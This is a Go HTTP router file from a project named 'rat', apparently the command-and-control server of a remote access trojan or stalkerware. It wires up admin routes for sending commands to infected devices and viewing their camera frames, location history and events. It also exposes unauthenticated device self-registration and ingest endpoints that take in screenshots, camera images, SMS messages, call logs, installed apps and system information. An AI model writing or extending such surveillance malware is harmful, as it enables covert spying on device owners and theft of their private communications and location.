package router

import (
	"net/http"

	"github.com/Sp1ker2/rat/internal/auth"
	"github.com/Sp1ker2/rat/internal/handler"
	"github.com/Sp1ker2/rat/pkg/constants"
	"github.com/gin-contrib/cors"
	"github.com/gin-gonic/gin"
)

// New builds the HTTP router.
func New(
	verifier *auth.Verifier,
	authHandler *handler.AuthHandler,
	deviceHandler *handler.DeviceHandler,
	ingestHandler *handler.IngestHandler,
	wsHandler *handler.WSHandler,
	health *handler.HealthHandler,
) http.Handler {
	r := gin.New()
	r.Use(gin.Recovery())
	r.Use(cors.New(cors.Config{
		AllowAllOrigins: true,
		AllowMethods:    []string{"GET", "POST", "PUT", "DELETE", "OPTIONS"},
		AllowHeaders:    []string{"Authorization", "Content-Type", "X-Device-Token"},
		AllowWebSockets: true,
	}))

	r.GET(constants.PathHealth, health.Health)
	r.GET(constants.PathReady, health.Ready)

	// Admin auth
	authGroup := r.Group("/api/auth")
	{
		authGroup.POST("/login", authHandler.Login)
		authGroup.POST("/logout", authHandler.Logout)
		authGroup.GET("/verify", handler.AdminAuth(verifier), authHandler.Verify)
	}

	// Admin REST
	r.GET("/api/stats", deviceHandler.Stats)
	devices := r.Group("/api/devices", handler.AdminAuth(verifier))
	{
		devices.GET("", deviceHandler.ListDevices)
		devices.POST("/register", deviceHandler.RegisterDevice)
		devices.GET("/:id", deviceHandler.GetDevice)
		devices.POST("/:id/command", deviceHandler.SendCommand)
		devices.GET("/:id/camera/:camera", deviceHandler.GetLatestFrame)
		devices.GET("/:id/camera/:camera/history", deviceHandler.GetFrameHistory)
		devices.GET("/:id/location", deviceHandler.GetLocationHistory)
		devices.GET("/:id/events", deviceHandler.GetEvents)
		devices.POST("/:id/token/regenerate", deviceHandler.RegenerateToken)
	}

	// Device self-registration: no auth, get-or-create by UUID.
	r.POST("/api/device/register", ingestHandler.SelfRegister)

	// Device ingest REST (token auth)
	ingest := r.Group("/api/device", handler.DeviceAuth(verifier))
	{
		ingest.POST("/camera/base64", ingestHandler.UploadCameraFrame)
		ingest.POST("/screenshot/base64", ingestHandler.UploadScreenshot)
		ingest.POST("/location", ingestHandler.UploadLocation)
		ingest.POST("/system-info", ingestHandler.UploadSystemInfo)
		ingest.POST("/sms", ingestHandler.UploadSMS)
		ingest.POST("/call-logs", ingestHandler.UploadCallLogs)
		ingest.POST("/installed-apps", ingestHandler.UploadInstalledApps)
		ingest.POST("/logs", ingestHandler.UploadLogs)
	}

	// WebSocket
	r.GET(constants.PathWSDevice, wsHandler.ServeDevice)
	r.GET(constants.PathWSAdmin, wsHandler.ServeAdmin)

	return r
}
